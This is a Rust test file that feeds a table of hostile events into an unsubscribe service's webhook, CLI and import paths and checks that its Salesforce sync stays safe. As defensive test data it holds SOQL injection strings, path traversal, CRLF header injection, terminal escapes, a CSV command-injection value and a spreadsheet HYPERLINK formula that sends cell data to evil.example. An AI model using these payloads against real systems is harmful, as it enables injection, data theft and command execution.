//! Hostile input, table-driven: ONE table ([`rows`]) of hostile events,
//! each driven through every entry point that can carry it: the webhook of
//! `serve` as a process (signed correctly, so the hostile part is the body),
//! `push` with the event as its argument and on stdin, `import` of JSON
//! lines and of CSV, and the component itself through
//! [`unsubscribe_sync::Runtime`] (for the cases a JSON or HTTP layer would
//! filter out first). One test per entry point, each with its own emulator
//! and SQLite file.
//!
//! For every row and entry point the tests prove:
//! - **the answer**: a typed error of the kind the row names (HTTP 400 or
//!   413, exit 2, the component's `invalid-event`), with a message that
//!   names the problem; or the event handled safely and recorded exactly as
//!   the row says (Salesforce ID normalized or kept aside as malformed,
//!   control characters removed, an implausible time replaced by the time
//!   received, each repair noted in the audit trail);
//! - **storage is intact** afterwards: `PRAGMA integrity_check` is `ok`,
//!   `status --json` still answers and counts exactly the unsubscribes
//!   recorded so far; a refused input left the ledger byte-for-byte as it
//!   was (nothing half-written), a recorded one touched only its own
//!   person's keys, and the webhook never dead-letters a row;
//! - **nothing reached Salesforce unescaped**: every request the emulator
//!   saw is a well-formed `/services/...` path whose record IDs are 18
//!   alphanumerics the sync holds, every SOQL `q=` parses into exactly the
//!   expected ID literals with no `OR`; a row that names no valid ID sends
//!   nothing at all, and a nightly after the imports (REST collections for
//!   JSON lines, Bulk API 2.0 for CSV) queries and writes exactly the valid
//!   records held and leaves a bystander untouched;
//! - **values round-trip exactly**: person IDs and sources full of quotes,
//!   commas, SOQL and CSV syntax come back unchanged from `audit --json`;
//!   the email (which `audit` does not show) is compared in the stored
//!   ledger record; and `audit` as printed for a terminal carries no control
//!   character, whatever the row held (a malformed ID is shown as received).
//!
//! Each test prints its rows' outcomes (`cargo test -- --nocapture`).

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use hmac::{Hmac, Mac};
use sf_emulator::{CallLogEntry, Emulator, OrgSeed, SeedRecord};
use sha2::Sha256;
use unsubscribe_sync::{Capabilities, SqliteStorage, api};

use crate::cli::{with_creds, write_config};
use crate::support::cli::{command, text};
use crate::support::serve::{Server, WEBHOOK_SECRET};
use crate::support::{org_client, plugin_runtime};

const LEAD: &str = "00Q5e00000AbCdEEAV";
const LEAD15: &str = "00Q5e00000AbCdE";
const CONTACT: &str = "0035e00000XyZaBAAV";
/// A Lead no row names: nothing may ever write to it.
const BYSTANDER: &str = "00Q5e00000AbCdFEAV";
/// The only record IDs any request may carry.
const VALID_IDS: [&str; 2] = [LEAD, CONTACT];
const MIB: usize = 1 << 20;

// ---------------------------------------------------------------------------
// The table.

/// The entry points.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Entry {
    Webhook,
    PushArg,
    PushStdin,
    ImportJsonl,
    ImportCsv,
    Component,
}

impl Entry {
    fn name(self) -> &'static str {
        match self {
            Entry::Webhook => "webhook",
            Entry::PushArg => "push arg",
            Entry::PushStdin => "push stdin",
            Entry::ImportJsonl => "import jsonl",
            Entry::ImportCsv => "import csv",
            Entry::Component => "component",
        }
    }

    /// The source an event gets when it names none.
    fn default_source(self) -> &'static str {
        match self {
            Entry::Webhook => "webhook",
            Entry::PushArg | Entry::PushStdin => "cli",
            Entry::ImportJsonl | Entry::ImportCsv => "import",
            Entry::Component => "component",
        }
    }
}

/// `occurred_at` as sent.
#[derive(Clone, Debug)]
enum At {
    Ms(i64),
    Text(&'static str),
}

impl At {
    fn ms(&self) -> i64 {
        match self {
            At::Ms(v) => *v,
            At::Text(t) => chrono::DateTime::parse_from_rfc3339(t)
                .unwrap()
                .timestamp_millis(),
        }
    }
}

/// An event whose values are hostile but whose carrier is well formed: its
/// JSON and CSV forms are generated from it (so every entry point gets the
/// same values), and the component gets it as it is.
#[derive(Clone, Debug)]
struct Ev {
    person: String,
    sfid: Option<String>,
    email: Option<String>,
    source: Option<String>,
    at: Option<At>,
}

impl Ev {
    fn json(&self) -> Vec<u8> {
        let mut m = serde_json::Map::new();
        m.insert("person_id".into(), self.person.clone().into());
        if let Some(v) = &self.sfid {
            m.insert("salesforce_id".into(), v.clone().into());
        }
        if let Some(v) = &self.email {
            m.insert("email".into(), v.clone().into());
        }
        if let Some(v) = &self.source {
            m.insert("source".into(), v.clone().into());
        }
        match &self.at {
            Some(At::Ms(v)) => {
                m.insert("occurred_at".into(), (*v).into());
            }
            Some(At::Text(t)) => {
                m.insert("occurred_at".into(), (*t).into());
            }
            None => {}
        }
        serde_json::to_vec(&serde_json::Value::Object(m)).unwrap()
    }

    /// A header row and one record, every value quoted (RFC 4180).
    fn csv(&self) -> Vec<u8> {
        let quote = |v: &str| format!("\"{}\"", v.replace('"', "\"\""));
        let mut cols = vec!["person_id"];
        let mut vals = vec![quote(&self.person)];
        for (name, v) in [
            ("salesforce_id", &self.sfid),
            ("email", &self.email),
            ("source", &self.source),
        ] {
            if let Some(v) = v {
                cols.push(name);
                vals.push(quote(v));
            }
        }
        if let Some(at) = &self.at {
            cols.push("occurred_at");
            vals.push(quote(&match at {
                At::Ms(v) => v.to_string(),
                At::Text(t) => t.to_string(),
            }));
        }
        format!("{}\n{}\n", cols.join(","), vals.join(",")).into_bytes()
    }

    fn event(&self, now_ms: i64) -> api::UnsubscribeEvent {
        api::UnsubscribeEvent {
            person_id: self.person.clone(),
            salesforce_id: self.sfid.clone(),
            email: self.email.clone(),
            source: self.source.clone().unwrap_or_else(|| "component".into()),
            occurred_at: self.at.as_ref().map(At::ms),
            received_at: now_ms,
        }
    }
}

/// A row's bytes.
#[derive(Clone, Debug)]
enum Input {
    Event(Ev),
    /// Bytes as sent (the webhook body, the push argument or stdin, a JSON
    /// line) and the same case as a CSV file, when CSV can carry it.
    Raw {
        json: Vec<u8>,
        csv: Option<Vec<u8>>,
    },
}

impl Input {
    fn json(&self) -> Vec<u8> {
        match self {
            Input::Event(e) => e.json(),
            Input::Raw { json, .. } => json.clone(),
        }
    }
}

/// Kinds of typed refusal.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Refusal {
    /// Not an event: the JSON (or CSV) layer's error. 400, exit 2, a line
    /// not read.
    Malformed,
    /// Not UTF-8. 400, exit 2.
    NotUtf8,
    /// Over the size cap: 413 (64 KiB body), exit 2 (1 MiB event).
    TooLarge,
    /// An event the contract refuses (the person ID): 400, exit 2, the
    /// component's `invalid-event`.
    InvalidEvent,
}

/// How the sync must record a row it accepts.
#[derive(Clone, Debug)]
struct Recorded {
    person: String,
    /// The normalized Salesforce ID held.
    sfid: Option<&'static str>,
    /// A malformed Salesforce ID kept aside: the value and words of the reason.
    invalid_id: Option<(String, &'static str)>,
    /// The email stored, exactly.
    email: Option<String>,
    /// The source stored; none: the entry point's default.
    source: Option<String>,
    /// Words the `received` audit entry must carry (a repair note).
    note: Option<&'static str>,
    /// The time stored, when the row gives a plausible one.
    at: Option<i64>,
}

/// What a row must get.
#[derive(Clone, Debug)]
enum Handling {
    /// A typed error of this kind whose message contains the words.
    Refused(Refusal, &'static str),
    /// Handled safely: recorded as described.
    Recorded(Box<Recorded>),
    /// Nothing to do (an empty import): exit 0, nothing recorded.
    Nothing,
}

struct Row {
    name: &'static str,
    input: Input,
    expect: Handling,
    /// Where an entry point's handling differs.
    except: Vec<(Entry, Handling)>,
}

impl Row {
    /// An event row, expected to be recorded as sent (refine with the
    /// methods below).
    fn event(name: &'static str, ev: Ev) -> Row {
        let recorded = Recorded {
            person: ev.person.clone(),
            sfid: None,
            invalid_id: None,
            email: ev.email.clone(),
            source: ev.source.clone(),
            note: None,
            at: ev.at.as_ref().map(At::ms),
        };
        Row {
            name,
            input: Input::Event(ev),
            expect: Handling::Recorded(Box::new(recorded)),
            except: Vec::new(),
        }
    }

    fn raw(
        name: &'static str,
        json: impl Into<Vec<u8>>,
        refusal: Refusal,
        says: &'static str,
    ) -> Row {
        Row {
            name,
            input: Input::Raw {
                json: json.into(),
                csv: None,
            },
            expect: Handling::Refused(refusal, says),
            except: Vec::new(),
        }
    }

    fn csv(mut self, bytes: impl Into<Vec<u8>>) -> Row {
        if let Input::Raw { csv, .. } = &mut self.input {
            *csv = Some(bytes.into());
        }
        self
    }

    fn recorded(&mut self) -> &mut Recorded {
        match &mut self.expect {
            Handling::Recorded(r) => r,
            _ => unreachable!("{}: not a recorded row", self.name),
        }
    }

    /// The host's entry points record the person ID without its surrounding
    /// whitespace (as CSV import always did); the component, called directly,
    /// records it exactly as given.
    fn person_trimmed_by_the_host(mut self) -> Row {
        let exact = self.expect.clone();
        let trimmed = self.recorded().person.trim().to_string();
        self.recorded().person = trimmed;
        self.except(Entry::Component, exact)
    }

    fn held_as(mut self, id: &'static str) -> Row {
        self.recorded().sfid = Some(id);
        self
    }

    fn invalid_id(mut self, words: &'static str) -> Row {
        let value = match &self.input {
            Input::Event(e) => e.sfid.clone().unwrap().trim().to_string(),
            Input::Raw { .. } => unreachable!(),
        };
        self.recorded().invalid_id = Some((value, words));
        self
    }

    fn email_stored(mut self, email: Option<&str>) -> Row {
        self.recorded().email = email.map(str::to_string);
        self
    }

    fn source_stored(mut self, source: &str) -> Row {
        self.recorded().source = Some(source.to_string());
        self
    }

    /// A repair the audit trail must note; an implausible time is replaced.
    fn noted(mut self, note: &'static str) -> Row {
        let r = self.recorded();
        r.note = Some(note);
        if note.contains("implausible") {
            r.at = None;
        }
        self
    }

    fn refused(mut self, refusal: Refusal, says: &'static str) -> Row {
        self.expect = Handling::Refused(refusal, says);
        self
    }

    fn except(mut self, entry: Entry, handling: Handling) -> Row {
        self.except.push((entry, handling));
        self
    }

    fn handling(&self, entry: Entry) -> &Handling {
        self.except
            .iter()
            .find(|(e, _)| *e == entry)
            .map_or(&self.expect, |(_, h)| h)
    }

    /// Why an entry point cannot carry the row, if it cannot.
    fn not_applicable(&self, entry: Entry) -> Option<&'static str> {
        match (entry, &self.input) {
            (Entry::PushArg, i) if i.json().len() > 100_000 => {
                Some("longer than the OS allows one argument")
            }
            (Entry::ImportCsv, Input::Raw { csv: None, .. }) => Some("CSV cannot carry it"),
            (Entry::Component, Input::Raw { .. }) => {
                Some("refused by the JSON layer before the component")
            }
            _ => None,
        }
    }
}

fn ev(person: impl Into<String>) -> Ev {
    Ev {
        person: person.into(),
        sfid: None,
        email: None,
        source: None,
        at: None,
    }
}

impl Ev {
    fn sfid(mut self, v: impl Into<String>) -> Ev {
        self.sfid = Some(v.into());
        self
    }
    fn email(mut self, v: impl Into<String>) -> Ev {
        self.email = Some(v.into());
        self
    }
    fn source(mut self, v: impl Into<String>) -> Ev {
        self.source = Some(v.into());
        self
    }
    fn at(mut self, at: At) -> Ev {
        self.at = Some(at);
        self
    }
}

fn nested(depth: usize, open: &str, inner: &str, close: &str) -> String {
    format!("{}{inner}{}", open.repeat(depth), close.repeat(depth))
}

/// THE table: every hostile input, what it must get, and where an entry
/// point handles it differently.
/// Every row, with the one rule CSV adds: a record is one line, so a value
/// holding a line break (quoted, as RFC 4180 would allow) is refused on each
/// of its lines and nothing of it is recorded.
fn rows() -> Vec<Row> {
    hostile_rows()
        .into_iter()
        .map(|mut row| {
            if let Input::Event(e) = &row.input
                && [
                    Some(&e.person),
                    e.sfid.as_ref(),
                    e.email.as_ref(),
                    e.source.as_ref(),
                ]
                .into_iter()
                .flatten()
                .any(|v| v.contains(['\n', '\r']))
            {
                // Ahead of any other CSV exception of the row.
                row.except.insert(
                    0,
                    (
                        Entry::ImportCsv,
                        Handling::Refused(Refusal::Malformed, "a value cannot span lines"),
                    ),
                );
            }
            row
        })
        .collect()
}

fn hostile_rows() -> Vec<Row> {
    use Refusal::*;
    // The webhook's body cap (64 KiB): 413.
    let body_cap = || Handling::Refused(TooLarge, "");
    vec![
        // A control: an ordinary event with every field.
        Row::event(
            "plain event (control)",
            ev("p-plain")
                .sfid(CONTACT)
                .email("plain@example.com")
                .source("link")
                .at(At::Text("2025-07-08T10:00:00Z")),
        )
        .held_as(CONTACT),
        // Empty and not JSON.
        Row::raw("empty body", "", Malformed, "empty")
            .csv("")
            .except(Entry::ImportJsonl, Handling::Nothing)
            .except(Entry::ImportCsv, Handling::Nothing),
        Row::raw("whitespace only", " \r\n\t ", Malformed, "empty")
            .csv(" \r\n ")
            .except(Entry::ImportJsonl, Handling::Nothing)
            .except(Entry::ImportCsv, Handling::Nothing),
        Row::raw(
            "form-encoded, not JSON",
            "person_id=p-form&email=x",
            Malformed,
            "not JSON",
        ),
        Row::raw(
            "JSON array (serde would read it as the struct)",
            format!(r#"["p-array","{LEAD}",null,"link",null]"#),
            Malformed,
            "got an array",
        ),
        Row::raw("JSON null", "null", Malformed, "got null"),
        Row::raw("JSON string", r#""p-string""#, Malformed, "got a string"),
        Row::raw("JSON number", "42", Malformed, "got a number"),
        Row::raw(
            "truncated JSON",
            r#"{"person_id":"p-trunc"#,
            Malformed,
            "EOF",
        ),
        Row::raw(
            "two objects in one body",
            r#"{"person_id":"p-two"}{"person_id":"p-three"}"#,
            Malformed,
            "trailing characters",
        ),
        Row::raw(
            "100,000-deep array",
            nested(100_000, "[", "", "]"),
            Malformed,
            "got an array",
        )
        .except(Entry::Webhook, body_cap()),
        Row::raw(
            "100,000-deep object in a field",
            format!(
                r#"{{"person_id":"p-deep","email":{}}}"#,
                nested(100_000, r#"{"a":"#, "1", "}")
            ),
            Malformed,
            "email: invalid type: map",
        )
        .except(Entry::Webhook, body_cap()),
        Row::event(
            "10 MiB body (a 10 MiB email)",
            ev("p-10mib").email(format!("{}@example.com", "a".repeat(10 * MIB))),
        )
        .refused(TooLarge, "1 MiB")
        .except(Entry::Webhook, body_cap())
        .except(
            Entry::Component,
            Handling::Recorded(Box::new(Recorded {
                person: "p-10mib".into(),
                sfid: None,
                invalid_id: None,
                email: None,
                source: None,
                note: Some("email longer than 320 characters dropped"),
                at: None,
            })),
        ),
        // Not UTF-8.
        Row::raw(
            "invalid UTF-8",
            &b"{\"person_id\":\"p-\xff\xfe\"}"[..],
            NotUtf8,
            "UTF-8",
        )
        .csv(&b"person_id\np-\xff\xfe\n"[..]),
        Row::raw(
            "UTF-8-encoded surrogate (CESU-8)",
            &b"{\"person_id\":\"p-\xed\xa0\x80\"}"[..],
            NotUtf8,
            "UTF-8",
        )
        .csv(&b"person_id\np-\xed\xa0\x80\n"[..]),
        Row::raw(
            "overlong encoding of '/'",
            &b"{\"person_id\":\"p-\xc0\xaf\"}"[..],
            NotUtf8,
            "UTF-8",
        )
        .csv(&b"person_id\np-\xc0\xaf\n"[..]),
        Row::raw(
            "lone surrogate escape",
            r#"{"person_id":"p-\ud800"}"#,
            Malformed,
            "hex escape",
        ),
        // Wrong types, unknown, missing and duplicated fields.
        Row::raw(
            "person_id a number",
            r#"{"person_id":42}"#,
            Malformed,
            "person_id: invalid type: integer",
        ),
        Row::raw(
            "person_id null",
            r#"{"person_id":null}"#,
            Malformed,
            "person_id: invalid type: null",
        ),
        Row::raw(
            "email an object (operator injection)",
            r#"{"person_id":"p-type","email":{"$ne":""}}"#,
            Malformed,
            "email: invalid type: map",
        ),
        Row::raw(
            "salesforce_id an array",
            format!(r#"{{"person_id":"p-type","salesforce_id":["{LEAD}"]}}"#),
            Malformed,
            "salesforce_id: invalid type: sequence",
        ),
        Row::raw(
            "occurred_at a boolean",
            r#"{"person_id":"p-type","occurred_at":true}"#,
            Malformed,
            "occurred_at: invalid type: boolean",
        ),
        Row::raw(
            "occurred_at a fraction",
            r#"{"person_id":"p-type","occurred_at":1.5e12}"#,
            Malformed,
            "occurred_at: 1500000000000 is not a whole number",
        ),
        Row::raw(
            "occurred_at beyond 64 signed bits",
            r#"{"person_id":"p-type","occurred_at":18446744073709551615}"#,
            Malformed,
            "occurred_at: 18446744073709551615 is out of range",
        ),
        Row::raw(
            "occurred_at in words",
            r#"{"person_id":"p-type","occurred_at":"yesterday"}"#,
            Malformed,
            "occurred_at: \"yesterday\" is neither",
        )
        .csv("person_id,occurred_at\np-type,yesterday\n"),
        Row::raw(
            "missing person_id",
            r#"{"email":"x@example.com"}"#,
            Malformed,
            "missing field `person_id`",
        )
        .csv("email\nx@example.com\n")
        .except(
            Entry::ImportCsv,
            Handling::Refused(Malformed, "no person_id column"),
        ),
        Row::raw(
            "unknown field",
            r#"{"person_id":"p-unknown","is_admin":true}"#,
            Malformed,
            "unknown field `is_admin`",
        )
        .csv("person_id,is_admin\np-unknown,true\n")
        .except(
            Entry::ImportCsv,
            Handling::Refused(Malformed, "unknown column"),
        ),
        Row::raw(
            "duplicated person_id",
            r#"{"person_id":"p-dup-a","person_id":"p-dup-b"}"#,
            Malformed,
            "duplicate field `person_id`",
        )
        .csv("person_id,person_id\np-dup-a,p-dup-b\n")
        .except(Entry::ImportCsv, Handling::Refused(Malformed, "twice")),
        // Person IDs.
        Row::event("empty person ID", ev("")).refused(InvalidEvent, "is empty"),
        Row::event("NUL in the person ID", ev("p-\u{0}-nul"))
            .refused(InvalidEvent, "control characters"),
        Row::event("line break in the person ID", ev("p-line\nbreak"))
            .refused(InvalidEvent, "control characters"),
        Row::event("ANSI escape in the person ID", ev("p-\u{1b}[31mred"))
            .refused(InvalidEvent, "control characters"),
        Row::event("256-character person ID", ev("p".repeat(256)))
            .refused(InvalidEvent, "longer than 255"),
        Row::event(
            "255 four-byte characters (1020 bytes) as the person ID",
            ev("\u{1F642}".repeat(255)).sfid(LEAD),
        )
        .held_as(LEAD),
        Row::event(
            "quotes, commas and semicolons in the person ID",
            ev(r#"p-"quoted", 'single'; a,b"#),
        ),
        Row::event(
            "SOQL injection as the person ID",
            ev("' OR Id != '").sfid(CONTACT),
        )
        .held_as(CONTACT),
        Row::event(
            "key separators and escapes in the person ID",
            ev("p/../%2F%25/x"),
        ),
        Row::event(
            "bidi override and zero-width space in the person ID",
            ev("p-\u{202e}txt.exe\u{200b}"),
        ),
        Row::event("a person ID that looks like a flag", ev("--help")),
        Row::event(
            "a person ID padded with spaces",
            ev("  p-padded  ").sfid(CONTACT),
        )
        .held_as(CONTACT)
        .person_trimmed_by_the_host(),
        // Salesforce IDs.
        Row::event("15-character Lead ID", ev("p-id15").sfid(LEAD15)).held_as(LEAD),
        Row::event(
            "18-character ID upper-cased by a spreadsheet",
            ev("p-id-upper").sfid(LEAD.to_uppercase()),
        )
        .held_as(LEAD),
        Row::event(
            "ID padded with whitespace",
            ev("p-id-padded").sfid(format!(" \t{CONTACT} \n")),
        )
        .held_as(CONTACT),
        Row::event("a word as the ID", ev("p-id-word").sfid("not-an-id")).invalid_id("not allowed"),
        Row::event("16-character ID", ev("p-id16").sfid("00Q5e00000AbCdEE"))
            .invalid_id("has 16 characters"),
        Row::event(
            "Account prefix (001)",
            ev("p-id-prefix").sfid("0015e00000AbCdE"),
        )
        .invalid_id("neither a Lead"),
        Row::event(
            "bad checksum",
            ev("p-id-checksum").sfid("00Q5e00000AbCdEAAA"),
        )
        .invalid_id("checksum"),
        Row::event(
            "SOQL injection in the ID",
            ev("p-id-soql").sfid("00Q5e00000AbCdE' OR Id != '"),
        )
        .invalid_id("not allowed"),
        Row::event(
            "SOQL injection closing the IN list",
            ev("p-id-soql2").sfid("') OR (Id != '"),
        )
        .invalid_id("not allowed"),
        Row::event(
            "path traversal in the ID",
            ev("p-id-path").sfid("../../sobjects/Account/0015e00000AbCdEAAA"),
        )
        .invalid_id("not allowed"),
        Row::event(
            "percent-encoded quote in the ID",
            ev("p-id-pct").sfid("00Q5e00000AbCdE%27"),
        )
        .invalid_id("not allowed"),
        Row::event(
            "two IDs with a comma",
            ev("p-id-comma").sfid(format!("{LEAD},{CONTACT}")),
        )
        .invalid_id("not allowed"),
        Row::event(
            "header injection in the ID",
            ev("p-id-crlf").sfid(format!("{LEAD}\r\nX-Injected: 1")),
        )
        .invalid_id("not allowed"),
        Row::event(
            "full-width digits in the ID",
            ev("p-id-wide").sfid("\u{ff10}\u{ff10}Q5e00000AbCdE"),
        )
        .invalid_id("not allowed"),
        Row::event(
            "NUL in the ID",
            ev("p-id-nul").sfid(format!("{LEAD15}\u{0}")),
        )
        .invalid_id("not allowed"),
        Row::event(
            "terminal escape sequence as the ID",
            ev("p-id-ansi").sfid("\u{1b}[2J\u{1b}]0;pwned\u{7}"),
        )
        .invalid_id("not allowed"),
        // Emails.
        Row::event(
            "unicode email",
            ev("p-mail-unicode").email("Zoë.名前@例え.jp"),
        ),
        Row::event(
            "quotes and commas in the email",
            ev("p-mail-quotes").email(r#""O'Brien, Pat" <pat@example.com>, other@example.com"#),
        ),
        Row::event(
            "CSV formula injection in the email",
            ev("p-mail-formula").email(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
        ),
        Row::event(
            "CSV command injection in the email",
            ev("p-mail-cmd")
                .email("+cmd|' /C calc'!A0@example.com")
                .sfid(LEAD),
        )
        .held_as(LEAD),
        Row::event(
            "SOQL injection in the email",
            ev("p-mail-soql").email("x' OR Email != '"),
        ),
        Row::event(
            "header injection in the email",
            ev("p-mail-crlf").email("ada@example.com\r\nBcc: all@example.com"),
        )
        .email_stored(Some("ada@example.comBcc: all@example.com"))
        .noted("control characters removed from the email"),
        Row::event(
            "NUL and escape sequence in the email",
            ev("p-mail-nul").email("a\u{0}b\u{1b}[2J@example.com"),
        )
        .email_stored(Some("ab[2J@example.com"))
        .noted("control characters removed from the email"),
        Row::event(
            "321-character email",
            ev("p-mail-long").email(format!("{}@example.com", "m".repeat(309))),
        )
        .email_stored(None)
        .noted("email longer than 320 characters dropped"),
        // Times.
        Row::event("negative time", ev("p-at-neg").at(At::Ms(-1)))
            .noted("implausible occurred-at -1 replaced by the time received"),
        Row::event("i64::MIN as the time", ev("p-at-min").at(At::Ms(i64::MIN)))
            .noted("implausible occurred-at -9223372036854775808 replaced"),
        Row::event("i64::MAX as the time", ev("p-at-max").at(At::Ms(i64::MAX)))
            .noted("implausible occurred-at 9223372036854775807 replaced"),
        Row::event(
            "year 3000 in milliseconds",
            ev("p-at-3000").at(At::Ms(32_503_680_000_000)),
        )
        .noted("implausible occurred-at 32503680000000 replaced"),
        Row::event(
            "year 9999 as RFC 3339",
            ev("p-at-9999").at(At::Text("9999-12-31T23:59:59Z")),
        )
        .noted("implausible occurred-at 253402300799000 replaced"),
        Row::event(
            "year 1 as RFC 3339",
            ev("p-at-0001").at(At::Text("0001-01-01T00:00:00Z")),
        )
        .noted("implausible occurred-at -62135596800000 replaced"),
        Row::event(
            "the last second of 1999",
            ev("p-at-1999").at(At::Text("1999-12-31T23:59:59Z")),
        )
        .noted("implausible occurred-at 946684799000 replaced"),
        // Sources.
        Row::event(
            "10,000-character source",
            ev("p-src-long").source("s".repeat(10_000)),
        )
        .source_stored(&"s".repeat(64))
        .noted("source cut to 64 characters"),
        Row::event(
            "control characters and SOQL in the source",
            ev("p-src-soql").source("link\r\n' OR 1=1 --"),
        )
        .source_stored("link' OR 1=1 --"),
    ]
}

// ---------------------------------------------------------------------------
// Reading the SQLite file.

/// The component's key space, as stored.
type Ledger = BTreeMap<String, Vec<u8>>;

fn open_db(db: &Path) -> rusqlite::Connection {
    // Read-write without CREATE (WAL readers need the shared-memory file);
    // nothing here writes.
    rusqlite::Connection::open_with_flags(db, rusqlite::OpenFlags::SQLITE_OPEN_READ_WRITE)
        .unwrap_or_else(|e| panic!("{}: {e}", db.display()))
}

fn ledger(db: &Path) -> Ledger {
    let c = open_db(db);
    let mut stmt = c.prepare("SELECT key, value FROM kv ORDER BY key").unwrap();
    stmt.query_map([], |r| {
        let k: Vec<u8> = r.get(0)?;
        Ok((String::from_utf8(k).expect("keys are UTF-8"), r.get(1)?))
    })
    .unwrap()
    .map(Result::unwrap)
    .collect()
}

/// `PRAGMA integrity_check` must answer exactly `ok`.
pub fn integrity(db: &Path) -> Result<(), String> {
    let c = open_db(db);
    let mut stmt = c
        .prepare("PRAGMA integrity_check")
        .map_err(|e| e.to_string())?;
    let rows: Vec<String> = stmt
        .query_map([], |r| r.get(0))
        .and_then(|r| r.collect())
        .map_err(|e| e.to_string())?;
    if rows == ["ok"] {
        Ok(())
    } else {
        Err(format!("integrity_check: {rows:?}"))
    }
}

fn count_rows(db: &Path, table: &str) -> i64 {
    let c = open_db(db);
    c.query_row(&format!("SELECT count(*) FROM {table}"), [], |r| r.get(0))
        .unwrap_or(0)
}

/// The component's key escaping of a person ID (`%` and `/`).
fn escape(person: &str) -> String {
    person.replace('%', "%25").replace('/', "%2F")
}

/// Whether a key belongs to one person (or is the shared audit sequence).
fn belongs_to(key: &str, person: &str) -> bool {
    let e = escape(person);
    // Shared bookkeeping, not another person's data: the audit sequence and
    // the retry queue's hint.
    key == "n/audit-seq"
        || key == "n/retry-next"
        || [
            format!("p/{e}"),
            format!("h/{e}"),
            format!("s/{e}"),
            format!("f/{e}"),
        ]
        .contains(&key.to_string())
        || key.starts_with(&format!("a/{e}/"))
        || ((key.starts_with("t/") || key.starts_with("r/")) && key.ends_with(&format!("/{e}")))
}

fn now_ms() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_millis() as i64
}

// ---------------------------------------------------------------------------
// What reached Salesforce.

fn percent_decode(s: &str) -> Result<String, String> {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'%' => {
                let hex = s
                    .get(i + 1..i + 3)
                    .ok_or_else(|| format!("truncated escape in {s:?}"))?;
                out.push(u8::from_str_radix(hex, 16).map_err(|e| format!("{s:?}: {e}"))?);
                i += 3;
            }
            b'+' => {
                out.push(b' ');
                i += 1;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    String::from_utf8(out).map_err(|e| e.to_string())
}

/// Tokenizes a SOQL statement and returns its string literals. Refuses an
/// unterminated literal, an `OR` (no query of the sync has one: it would be
/// injected), and any character outside identifiers, literals, `(),=`.
fn soql_literals(q: &str) -> Result<Vec<String>, String> {
    let c: Vec<char> = q.chars().collect();
    let mut literals = Vec::new();
    let mut i = 0;
    while i < c.len() {
        match c[i] {
            w if w.is_whitespace() => i += 1,
            '(' | ')' | ',' | '=' => i += 1,
            '\'' => {
                let mut lit = String::new();
                i += 1;
                loop {
                    match c.get(i) {
                        None => return Err(format!("unterminated literal in {q:?}")),
                        Some('\\') => {
                            lit.push(*c.get(i + 1).ok_or("dangling escape")?);
                            i += 2;
                        }
                        Some('\'') => {
                            i += 1;
                            break;
                        }
                        Some(ch) => {
                            lit.push(*ch);
                            i += 1;
                        }
                    }
                }
                literals.push(lit);
            }
            w if w.is_ascii_alphanumeric() || w == '_' || w == '.' => {
                let start = i;
                while i < c.len() && (c[i].is_ascii_alphanumeric() || c[i] == '_' || c[i] == '.') {
                    i += 1;
                }
                let word: String = c[start..i].iter().collect();
                if word.eq_ignore_ascii_case("OR") {
                    return Err(format!("an OR in {q:?}"));
                }
            }
            other => return Err(format!("unexpected {other:?} in SOQL {q:?}")),
        }
    }
    Ok(literals)
}

fn is_id(s: &str) -> bool {
    s.len() == 18 && s.bytes().all(|b| b.is_ascii_alphanumeric())
}

/// Checks every request: a well-formed path under `/services/`, record IDs
/// that are 18 alphanumerics among `VALID_IDS`, SOQL whose literals are
/// among them. Returns the SOQL literals seen.
fn check_calls(calls: &[CallLogEntry]) -> Result<BTreeSet<String>, String> {
    check_calls_against(calls, &VALID_IDS.iter().map(|s| s.to_string()).collect())
}

/// [`check_calls`] with another set of IDs the sync holds.
fn check_calls_against(
    calls: &[CallLogEntry],
    valid: &BTreeSet<String>,
) -> Result<BTreeSet<String>, String> {
    let mut literals = BTreeSet::new();
    for call in calls {
        let what = format!("{} {}", call.method, call.path);
        if !["GET", "POST", "PATCH", "PUT", "DELETE"].contains(&call.method.as_str()) {
            return Err(format!("unexpected method: {what}"));
        }
        let (path, query) = call.path.split_once('?').unwrap_or((&call.path, ""));
        if path != "/services/oauth2/token" && !path.starts_with("/services/data/v62.0/") {
            return Err(format!("a request outside /services/data/v62.0: {what}"));
        }
        let segments: Vec<&str> = path.split('/').skip(1).collect();
        for s in &segments {
            if s.is_empty()
                || !s
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"_.".contains(&b))
            {
                return Err(format!("a malformed path segment {s:?}: {what}"));
            }
        }
        for w in segments.windows(3) {
            if w[0] == "sobjects"
                && ["Lead", "Contact"].contains(&w[1])
                && w[2] != "describe"
                && (!is_id(w[2]) || !valid.contains(w[2]))
            {
                return Err(format!(
                    "a record ID that is not one the sync holds: {what}"
                ));
            }
        }
        for pair in query.split('&').filter(|p| !p.is_empty()) {
            let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
            if k == "q" {
                let soql = percent_decode(v)?;
                for lit in soql_literals(&soql)? {
                    if !valid.contains(&lit) {
                        return Err(format!("SOQL literal {lit:?} is not a held ID: {soql}"));
                    }
                    literals.insert(lit);
                }
            }
        }
    }
    Ok(literals)
}

// ---------------------------------------------------------------------------
// The webhook client: raw HTTP/1.1, so any body (not UTF-8, 10 MiB, chunked)
// can be sent, signed correctly.

fn sign(ts: i64, body: &[u8]) -> String {
    let mut mac = Hmac::<Sha256>::new_from_slice(WEBHOOK_SECRET.as_bytes()).unwrap();
    mac.update(format!("{ts}.").as_bytes());
    mac.update(body);
    format!("sha256={}", hex::encode(mac.finalize().into_bytes()))
}

/// POSTs a signed body; answers the status and the body. The body is
/// written from another thread, so a server that answers before reading it
/// all (413) is heard.
fn post_raw(base: &str, path: &str, body: &[u8], chunked: bool) -> Result<(u16, String), String> {
    let addr = base.trim_start_matches("http://");
    let mut stream = TcpStream::connect(addr).map_err(|e| e.to_string())?;
    stream
        .set_read_timeout(Some(Duration::from_secs(60)))
